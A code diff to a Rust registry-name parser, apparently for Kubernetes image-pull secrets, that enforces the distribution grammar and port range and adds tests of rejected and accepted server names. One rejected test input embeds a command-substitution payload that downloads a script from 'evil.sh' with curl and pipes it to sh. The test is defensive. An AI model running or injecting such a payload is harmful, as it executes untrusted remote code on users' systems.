@@ -3,6 +3,8 @@
 
 use std::fmt;
 
+use super::image::{is_domain_and_port, is_remote_name};
+
 /// The key `kubectl create secret docker-registry` writes for Docker Hub. The kubelet reaches it
 /// through its Docker Hub fallback (docs/semantics.md §4), and `docker login` stores Hub logins under it.
 pub(crate) const DOCKER_HUB_KEY: &str = "https://index.docker.io/v1/";
@@ -54,22 +56,23 @@ impl Registry {
         if host.is_empty() {
             return Err(invalid("it has no host"));
         }
-        let host_ok = host
-            .chars()
-            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':' | '[' | ']' | '_'));
-        if !host_ok {
+        // distribution/reference's grammar, as images name registries: `host[:port]`, then
+        // path components of `[a-z0-9]` joined by `.`, `_`, `__` or dashes.
+        if !is_domain_and_port(host) {
             return Err(invalid(
-                "the host may hold only letters, digits, '.', '-' and ':port'",
+                "the host must be a domain name, an IPv4 address or a [bracketed IPv6 address], with an optional :port",
             ));
         }
+        if let Some((_, port)) = host.rsplit_once(':').filter(|_| !host.ends_with(']'))
+            && !port.parse::<u16>().is_ok_and(|port| port > 0)
+        {
+            return Err(invalid("the port must be 1 to 65535"));
+        }
         // The kubelet strips a leading /v1/ or /v2/ API prefix from keys (docs/semantics.md §4).
-        let path = strip_api_version(path);
-        let path_ok = path
-            .chars()
-            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | '/'));
-        if !path_ok {
+        let path = strip_api_version(path).to_ascii_lowercase();
+        if !path.is_empty() && !is_remote_name(&path) {
             return Err(invalid(
-                "the repository path may hold only a-z, 0-9, '.', '-', '_' and '/'",
+                "the repository path must be components of a-z and 0-9 joined by '.', '_', '__' or '-', separated by '/'",
             ));
         }
         let mut host = host.to_ascii_lowercase();
@@ -78,7 +81,7 @@ impl Registry {
         }
         Ok(Self {
             host,
-            path: (!path.is_empty()).then(|| path.to_ascii_lowercase()),
+            path: (!path.is_empty()).then_some(path),
         })
     }
 
@@ -140,6 +143,36 @@ impl fmt::Display for Registry {
 
 #[cfg(test)]
 mod tests {
+    #[test]
+    fn servers_follow_the_distribution_grammar() {
+        for bad in [
+            ":",
+            "[[[",
+            "-",
+            "a:b:c",
+            "quay.io/../..",
+            "quay.io:99999999",
+            "quay.io:0",
+            "quay_io",
+            "-quay.io",
+            "quay.io/team//x",
+            "[$(curl${IFS}-s${IFS}evil.sh|sh)]",
+        ] {
+            assert!(Registry::parse(bad).is_err(), "{bad:?} was accepted");
+        }
+        for good in [
+            "quay.io",
+            "reg.example.com:5000",
+            "localhost:65535",
+            "127.0.0.1:5000",
+            "[::1]:5000",
+            "quay.io/Team/app",
+            "https://index.docker.io/v1/",
+        ] {
+            assert!(Registry::parse(good).is_ok(), "{good:?} was refused");
+        }
+    }
+
     use super::*;
 
     fn canonical(input: &str) -> String {
